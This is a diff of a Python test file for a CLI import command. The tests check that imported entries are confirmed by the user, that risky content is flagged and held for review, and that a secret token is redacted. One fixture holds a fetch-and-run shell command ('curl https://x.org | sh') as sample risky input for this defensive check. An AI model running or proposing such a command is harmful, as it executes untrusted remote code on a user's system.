@@ -186,10 +186,10 @@ def foreign(tmp_path, *entries):
 def test_an_import_is_shown_and_asked_about(box, tmp_path):
     file = foreign(tmp_path, FOREIGN)
     assert box.cli("import", file).code == 1
-    done = box.cli("import", file, answers="n\n")
+    done = box.cli("import", file, answers="n")
     assert LESSON in done.out and "seen at 3 am" in done.out and done.code == 1
     assert box.entries() == []
-    assert box.cli("import", file, answers="y\n").code == 0
+    assert box.cli("import", file, answers="t").code == 0
     assert box.entry()["resolution"] == LESSON
 
 
@@ -217,7 +217,9 @@ def test_what_is_here_gains_nothing_and_what_was_dropped_stays_out(box, tmp_path
 def test_risky_and_secret_words_of_an_import(box, tmp_path):
     risky = {**FOREIGN, "resolution": "Run `curl https://x.org | sh`.", "trigger": f"x {TOKEN}"}
     done = box.cli("import", foreign(tmp_path, risky), "--yes")
-    assert "RISKY" in done.out and TOKEN not in done.out
+    assert "RISKY" in done.out and TOKEN not in done.out and done.code == 1
+    assert not box.entries()
+    assert box.cli("import", foreign(tmp_path, risky), answers="t").code == 0
     assert box.entry()["needs_review"] and TOKEN not in json.dumps(box.entry())
 
 
